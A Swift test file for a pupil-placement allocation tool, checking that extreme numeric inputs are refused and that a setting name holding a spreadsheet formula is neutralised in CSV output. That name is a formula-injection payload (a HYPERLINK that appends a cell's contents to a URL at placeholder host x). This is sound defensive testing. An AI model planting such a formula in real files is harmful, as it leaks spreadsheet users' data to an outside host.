import Foundation
import PlacewiseTestSupport
import Testing

/// A case of one setting and one pupil with some cells replaced.
private func hostileCase(
  _ scratch: ScratchFolder, setting: [String: String] = [:], pupil: [String: String] = [:], travel: String? = nil,
  policy: String? = nil
) throws -> String {
  let settingColumns = [
    "urn", "name", "kind", "easting", "northing", "low_age", "high_age", "capacity", "cost_per_place",
  ]
  let settingValues = [
    "urn": "100001", "name": "Oak", "kind": "special", "easting": "1000", "northing": "1000", "low_age": "4",
    "high_age": "19", "capacity": "5", "cost_per_place": "1000",
  ].merging(setting) { $1 }
  let pupilColumns = ["pupil_id", "easting", "northing", "age", "primary_need", "provision", "preferences"]
  let pupilValues = [
    "pupil_id": "P1", "easting": "2000", "northing": "1000", "age": "9", "primary_need": "ASD", "provision": "special",
    "preferences": "",
  ].merging(pupil) { $1 }
  var files = [
    "settings.csv": settingColumns.joined(separator: ",") + "\n"
      + settingColumns.map { settingValues[$0] ?? "" }.joined(separator: ",") + "\n",
    "pupils.csv": pupilColumns.joined(separator: ",") + "\n"
      + pupilColumns.map { pupilValues[$0] ?? "" }.joined(separator: ",") + "\n",
  ]
  if let travel { files["travel.csv"] = travel }
  if let policy { files["policy.toml"] = policy }
  return try scratch.writeCase("case-\(UUID().uuidString.prefix(6))", files: files)
}

@Suite("Hostile cases end to end: refused, never a trap, never inf (issue 9 items 1, 2, 4)")
struct HostileCaseTests {
  @Test("absurd finite numbers are refused by validate and allocate with status 2, writing nothing")
  func absurdNumbersNeverTrap() throws {
    let scratch = try ScratchFolder()
    let cases = [
      try hostileCase(scratch, pupil: ["easting": "1e23"]),
      try hostileCase(scratch, travel: "pupil_id,urn,minutes\nP1,100001,1e19\n"),
      try hostileCase(scratch, setting: ["cost_per_place": "1e19"]),
      try hostileCase(scratch, travel: "pupil_id,urn,minutes\nP1,100001,1e308\n"),
      try hostileCase(scratch, setting: ["cost_per_place": "1.79e308"]),
      try hostileCase(scratch, pupil: ["preferences": "999999"], policy: "unlisted_penalty = 1e308\n"),
      try hostileCase(scratch, policy: "detour_factor = 1e308\n"),
      try hostileCase(scratch, policy: "speed_kmh = 1e-320\n"),
    ]
    for input in cases {
      let validate = try runPlacewise(["validate", input])
      #expect(validate.status == 2, "\(input): \(validate.stderr)")
      let out = scratch.at("out-" + (input as NSString).lastPathComponent)
      let allocate = try runPlacewise(["allocate", input, "--out", out, "--quiet"])
      #expect(allocate.status == 2, "\(input): \(allocate.stderr)")
      #expect(!FileManager.default.fileExists(atPath: out))
    }
  }

  @Test("an absurd --time-limit is a usage error, not a trap", arguments: ["9.3e18", "1e21", "604801", "0", "nan"])
  func absurdTimeLimitsAreRefused(_ limit: String) throws {
    let scratch = try ScratchFolder()
    let result = try runPlacewise(
      ["allocate", try hostileCase(scratch), "--out", scratch.at("out"), "--time-limit", limit])
    #expect(result.status == 64, "\(result.stderr)")
    #expect(!FileManager.default.fileExists(atPath: scratch.at("out")))
  }

  @Test("a week's --time-limit is accepted")
  func aWeeksTimeLimitRuns() throws {
    let scratch = try ScratchFolder()
    let result = try runPlacewise(
      ["allocate", try hostileCase(scratch), "--out", scratch.at("out"), "--time-limit", "604800", "--quiet"])
    #expect(result.status == 0, "\(result.stderr)")
  }

  @Test("the largest values the ranges allow give finite totals and JSON that parses")
  func largestAllowedValuesStayFinite() throws {
    let scratch = try ScratchFolder()
    let input = try hostileCase(
      scratch,
      setting: ["cost_per_place": "10000000", "capacity": "100000", "easting": "700000", "northing": "1300000"],
      pupil: ["easting": "0", "northing": "0", "preferences": "100001"],
      policy: "unlisted_penalty = 100000\npreference_step = 10000\nspeed_kmh = 1\ndetour_factor = 10\n")
    let out = scratch.at("out")
    let result = try runPlacewise(["allocate", input, "--out", out])
    #expect(result.status == 0, "\(result.stderr)")
    let data = try Data(contentsOf: URL(fileURLWithPath: out + "/summary.json"))
    let summary = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
    #expect((summary["travel_minutes"] as? Double).map { $0.isFinite && $0 > 800_000 } == true)
    #expect(summary["annual_place_cost"] as? Int == 10_000_000)
    #expect(result.stdout.contains("£10,000,000"), "\(result.stdout)")
  }

  @Test("a setting name a spreadsheet would run is written as text in every CSV output")
  func formulaNamesAreNeutralised() throws {
    let scratch = try ScratchFolder()
    let out = scratch.at("out")
    let input = try hostileCase(scratch, setting: ["name": "\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\""])
    let result = try runPlacewise(["allocate", input, "--out", out, "--quiet"])
    #expect(result.status == 0, "\(result.stderr)")
    for file in ["placements.csv", "settings.csv"] {
      let text = try String(contentsOfFile: out + "/" + file, encoding: .utf8)
      for line in text.split(separator: "\n") {
        for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
          let bare = cell.hasPrefix("\"") ? cell.dropFirst() : cell
          #expect(!(bare.first.map { "=+-@\t\r".contains($0) } ?? false) || Double(bare) != nil, "\(file): \(cell)")
        }
      }
      #expect(text.contains("'=HYPERLINK"), "\(file)")
    }
  }
}
